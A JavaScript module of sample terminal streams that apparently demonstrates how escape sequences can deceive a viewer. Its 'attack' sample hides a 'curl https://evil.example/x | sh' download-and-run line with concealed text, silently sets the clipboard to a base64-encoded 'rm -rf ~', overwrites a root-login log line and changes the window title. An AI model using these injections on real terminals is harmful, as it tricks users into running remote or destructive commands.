// @ts-check
// Three streams to begin with.

/** @typedef {{ name: string, view: string, text: string }} Example */

const bar = (/** @type {number} */ done) =>
    `\r\x1b[36mDownloading\x1b[0m [${'#'.repeat(done / 5)}${'.'.repeat(20 - done / 5)}] ${String(done).padStart(3)} %`;

const LOG = [
    '\x1b[1m$ make\x1b[0m\r\n',
    ...[0, 15, 40, 65, 90, 100].map(bar),
    '\r\x1b[K\x1b[36mDownloading\x1b[0m \x1b[32mdone\x1b[0m in 2.4 s\r\n',
    '\x1b[1;34m==>\x1b[0m \x1b[1mCompiling 3 files\x1b[0m\r\n',
    '  cc -c main.c\r\n  cc -c parse.c\r\n',
    '\x1b[1mparse.c:42:7:\x1b[0m \x1b[1;35mwarning:\x1b[0m unused variable \x1b[1m‘rest’\x1b[0m\r\n',
    '   42 |   char *\x1b[1;35mrest\x1b[0m = end;\r\n      |         \x1b[1;35m^~~~\x1b[0m\r\n',
    '\x1b[1mmain.c:7:9:\x1b[0m \x1b[1;31merror:\x1b[0m \x1b]8;;https://example.org/E0007\x1b\\undeclared name\x1b]8;;\x1b\\ \x1b[1m‘count’\x1b[0m\r\n',
    '\x1b[38;2;255;140;0m2 of 3 files\x1b[0m, \x1b[4:3;58;5;1m1 error\x1b[0m, \x1b[7m 1 warning \x1b[0m\r\n',
].join('');

const ATTACK = [
    '10:01:07 login anna from 10.0.0.7\r\n',
    '10:01:09 \x1b[31mlogin root from 203.0.113.5\x1b[0m\r\x1b[K10:01:09 cron: nothing to do\r\n',
    '10:01:12 upload \x1b[8mcurl https://evil.example/x | sh\x1b[28mreport.pdf\r\n',
    '10:01:13 \x1b]52;c;cm0gLXJmIH4=\x07clipboard set without a word\r\n',
    '10:01:15 \x1b]0;root@server\x07title changed\r\n',
    '10:01:16 done\r\n',
].join('');

/** @param {string} vim what vim wrote */
export const examples = vim => /** @type {Record<string, Example>} */ ({
    log: { name: 'a log with colours', view: 'seen', text: LOG },
    vim: { name: 'what vim sent', view: 'words', text: vim },
    attack: { name: 'a log that hides a line', view: 'words', text: ATTACK },
});
